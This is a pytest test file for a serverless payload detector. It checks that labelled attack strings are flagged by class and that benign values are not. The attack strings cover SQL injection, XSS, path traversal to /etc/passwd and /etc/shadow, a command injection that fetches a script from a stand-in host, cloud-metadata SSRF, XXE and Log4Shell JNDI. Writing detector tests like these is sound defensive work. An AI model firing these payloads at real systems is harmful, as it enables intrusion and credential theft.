"""faasguard.payloads: detections, spans, backends alike, event walking."""

from __future__ import annotations

import base64
import json
import pickle
import subprocess
import sys
from pathlib import Path

import pytest

from faasguard.payloads import Detection, detect, detect_many, detect_trigger, scan_event
from faasguard.payloads.engine import hyperscan_available

ATTACKS = [
    ("1' OR '1'='1", "sqli"),
    ("x' UNION SELECT password FROM users--", "sqli"),
    ("<img src=x onerror=alert(1)>", "xss"),
    ("javascript:alert(document.cookie)", "xss"),
    ("../../../../etc/passwd", "path-traversal"),
    ("%252e%252e%252f%252e%252e%252fetc%252fpasswd", "path-traversal"),
    ("..%c0%af..%c0%afwindows%c0%afwin.ini", "path-traversal"),
    ("; cat /etc/shadow", "cmdi"),
    ("$(curl http://x.test/a.sh)", "cmdi"),
    ("http://169.254.169.254/latest/meta-data/iam/", "ssrf"),
    ("{{''.__class__.__mro__[1].__subclasses__()}}", "ssti"),
    ('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "xxe"),
    ('{"user": {"$ne": null}}', "nosqli"),
    ("*)(uid=*))(|(uid=*", "ldapi"),
    ("${${lower:j}ndi:ldap://x.test/a}", "jndi"),
    ("%0d%0aSet-Cookie:%20session=evil", "crlf"),
    ("//evil.test/%2e%2e", "open-redirect"),
]

BENIGN = [
    "O'Brien",
    "Select the best option from the list",
    "AT&T customer; please call back",
    "what is ${HOME} in bash",
    "Hello {{ first_name }}",
    "https://app.example.com/callback?next=/dashboard",
    "uploads/2024/05/report final (1).pdf",
    "5 > 3",
    '{"order": 42, "$schema": "https://json-schema.org/draft/2020-12/schema"}',
]


@pytest.mark.parametrize(("value", "cls"), ATTACKS)
def test_attack_found_with_its_class(value: str, cls: str) -> None:
    assert cls in [d.cls for d in detect(value)]


@pytest.mark.parametrize("value", BENIGN)
def test_benign_value_is_clean(value: str) -> None:
    assert detect(value) == []


def test_span_points_into_the_original_value() -> None:
    value = "name=bob&page=" + "1" * 200 + "&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    (found,) = detect(value)
    assert found.cls == "xss"
    assert value[found.start : found.end].startswith("%3Cscript")


@pytest.mark.skipif(not hyperscan_available(), reason="hyperscan wheel not installed")
@pytest.mark.parametrize("value", [v for v, _ in ATTACKS] + BENIGN)
def test_pure_python_backend_gives_identical_results(value: str) -> None:
    assert detect(value, backend="re") == detect(value, backend="hyperscan")


def test_package_imports_without_the_rest_of_faasguard() -> None:
    code = (
        "import json, sys, faasguard.payloads as p; p.detect(\"1' or '1'='1\");"
        "print(json.dumps(sorted(m for m in sys.modules if m.startswith('faasguard'))))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    modules = json.loads(out.stdout)
    assert all(m == "faasguard" or m.startswith("faasguard.payloads") for m in modules)


def _sqs(body: str) -> dict[str, object]:
    return {"Records": [{"eventSource": "aws:sqs", "body": body, "messageId": "1"}]}


def test_sqs_json_in_json_path() -> None:
    event = _sqs(json.dumps({"Message": json.dumps({"name": "<script>alert(1)</script>"})}))
    (hit,) = scan_event(event)
    assert hit.path == "$.Records[0].body<json>.Message<json>.name"
    assert hit.detection.cls == "xss"
    assert hit.value == "<script>alert(1)</script>"


def test_kinesis_base64_then_json() -> None:
    data = base64.b64encode(json.dumps({"user": "' or 1=1--"}).encode()).decode()
    event = {"Records": [{"eventSource": "aws:kinesis", "kinesis": {"data": data}}]}
    assert detect_trigger(event) == "kinesis"
    paths = {(h.path, h.detection.cls) for h in scan_event(event)}
    assert ("$.Records[0].kinesis.data<base64><json>.user", "sqli") in paths


def test_s3_key_is_url_decoded_and_keys_are_scanned() -> None:
    event = {
        "Records": [
            {
                "eventSource": "aws:s3",
                "s3": {"object": {"key": "..%2F..%2Fetc%2Fpasswd"}},
                "x": {"<svg onload=alert(1)>": 1},
            }
        ]
    }
    found = {(h.path, h.detection.cls, h.value) for h in scan_event(event)}
    assert ("$.Records[0].s3.object.key<url>", "path-traversal", "../../etc/passwd") in found
    assert any(p.endswith("<key>") and c == "xss" for p, c, _ in found)


def test_nosql_operator_in_a_json_body_is_found_on_its_key() -> None:
    # the body is walked leaf by leaf: the operator is a key, without its braces and colon
    event = _sqs(json.dumps({"username": {"$ne": None}, "password": {"$gt": ""}}))
    found = [(h.path, h.detection.cls) for h in scan_event(event)]
    assert found == [
        ("$.Records[0].body<json>.username['$ne']<key>", "nosqli"),
        ("$.Records[0].body<json>.password['$gt']<key>", "nosqli"),
    ]
    # Mongo extended JSON and JSON Schema keys are no query operators
    clean = {"_id": {"$oid": "5f1d7a"}, "$schema": "x", "$ref": "#/a", "price": "$in stock"}
    assert scan_event(_sqs(json.dumps(clean))) == []


def test_clean_api_gateway_event_has_no_hits() -> None:
    event = {
        "resource": "/orders",
        "httpMethod": "POST",
        "headers": {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64)", "Accept": "*/*"},
        "queryStringParameters": {"q": "Select the best option"},
        "requestContext": {"resourcePath": "/orders", "stage": "prod"},
        "body": base64.b64encode(b'{"name": "O\'Brien"}').decode(),
        "isBase64Encoded": True,
    }
    assert detect_trigger(event) == "apigw-v1"
    assert scan_event(event) == []


@pytest.mark.parametrize(
    ("event", "kind"),
    [
        ({"version": "2.0", "routeKey": "GET /", "requestContext": {"http": {}}}, "apigw-v2"),
        (
            {
                "version": "2.0",
                "routeKey": "$default",
                "requestContext": {"domainName": "abc.lambda-url.eu-west-1.on.aws"},
            },
            "function-url",
        ),
        ({"httpMethod": "GET", "path": "/", "requestContext": {"elb": {}}}, "alb"),
        ({"Records": [{"EventSource": "aws:sns", "Sns": {}}]}, "sns"),
        ({"Records": [{"eventSource": "aws:dynamodb"}]}, "dynamodb"),
        ({"source": "aws.events", "detail-type": "Scheduled Event", "detail": {}}, "schedule"),
        ({"source": "my.app", "detail-type": "Order", "detail": {}}, "eventbridge"),
        ({"triggerSource": "PreSignUp_SignUp", "userPoolId": "eu-west-1_x"}, "cognito"),
        ({"foo": 1}, "unknown"),
    ],
)
def test_trigger_kinds(event: dict[str, object], kind: str) -> None:
    assert detect_trigger(event) == kind


VALUES = Path(__file__).parents[2].parent / "shared" / "payloads" / "values.tsv"


@pytest.mark.skipif(not hyperscan_available(), reason="hyperscan wheel not installed")
@pytest.mark.skipif(not VALUES.exists(), reason="../shared/payloads/values.tsv not beside the repo")
def test_backends_identical_on_every_50th_labelled_value() -> None:
    """Hyperscan and the pure-Python backend give the same detections (spans included)
    on real payload lists and benign values (one in 50 of values.tsv, ~1,200 values)."""
    lines = VALUES.read_text(encoding="utf-8").splitlines()[1::50]
    values = [line.split("\t", 2)[2].replace("\\n", "\n").replace("\\t", "\t") for line in lines]
    differing = [v for v in values if detect(v, backend="re") != detect(v, backend="hyperscan")]
    assert differing == []


def _labelled_values(step: int) -> list[str]:
    lines = VALUES.read_text(encoding="utf-8").splitlines()[1::step]
    return [line.split("\t", 2)[2].replace("\\n", "\n").replace("\\t", "\t") for line in lines]


@pytest.mark.skipif(not VALUES.exists(), reason="../shared/payloads/values.tsv not beside the repo")
@pytest.mark.parametrize("chunk", [5, 64, 1000])
def test_batch_gives_what_one_value_at_a_time_gives(chunk: int) -> None:
    """detect_many scans a batch as one buffer and re-checks only what it points at: the
    answers (classes, confidences, sources and spans) are detect's, value by value."""
    values = _labelled_values(4)
    batched = [d for i in range(0, len(values), chunk) for d in detect_many(values[i : i + chunk])]
    one = [detect(v) for v in values]
    assert [i for i, (a, b) in enumerate(zip(one, batched, strict=True)) if a != b] == []
    assert sum(1 for found in one if found) > 1000  # the set has attacks to find


@pytest.mark.parametrize(
    "values",
    [
        ["", "abc", "", "1' OR '1'='1", ""],
        ["x'", "or 1=1 --", "plain", "words"],  # a match over the joint belongs to no value
        ["line one\n' or 1=1 --", "second\nline", "ok", "fine"],
        ["caf\u00e9 <script>alert(1)</script>", "\u00fcber", "na\u00efve", "\udce2 lone"],
        ["O'Brien", "AT&T", "5 > 3", "x = (1)", "it's"],  # hints only: libinjection's say
        ["a" * 70_000 + "%3Cscript%3E", "b", "c", "d"],  # longer than decoding covers
    ],
)
def test_batch_edge_cases(values: list[str]) -> None:
    assert detect_many(values) == [detect(v) for v in values]


def test_detection_span_is_worked_out_when_read_and_survives_pickling() -> None:
    (found,) = detect("name=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
    assert (found.cls, found.source) == ("xss", found.source)
    copy = pickle.loads(pickle.dumps(found))
    assert copy == found and hash(copy) == hash(found)
    assert (copy.start, copy.end) == (found.start, found.end)
    assert repr(found).startswith("Detection(cls='xss', start=")
    assert found != Detection("xss", 0, 1, found.confidence, found.source)
    with pytest.raises(AttributeError):
        found.cls = "sqli"  # type: ignore[misc]


#: Encoded climbs followed by a sensitive word right away or after one more separator
#: (``traversal.encoded`` no longer looks for the word anywhere in the next 40 bytes).
CLIMB_THEN_WORD = [
    "..../0x2fetc0x2fpasswd",
    ".?/etc/passwd",
    "..%uEFC8etc/passwd",
    "%c0%2e%c0%2e/etc/passwd",
    "..%c0%5cetc/passwd",
]


@pytest.mark.parametrize("value", CLIMB_THEN_WORD)
def test_encoded_climb_then_sensitive_word(value: str) -> None:
    found = [(d.cls, d.source, d.confidence) for d in detect(value)]
    assert found == [("path-traversal", "traversal.encoded", 0.9)]
    assert detect(value, backend="re") == detect(value)


@pytest.mark.parametrize(
    "value", ["move it up with ../ into the etc folder", "v2..5 → see /etc notes"]
)
def test_climb_and_word_apart_in_prose_is_clean(value: str) -> None:
    assert detect(value) == []
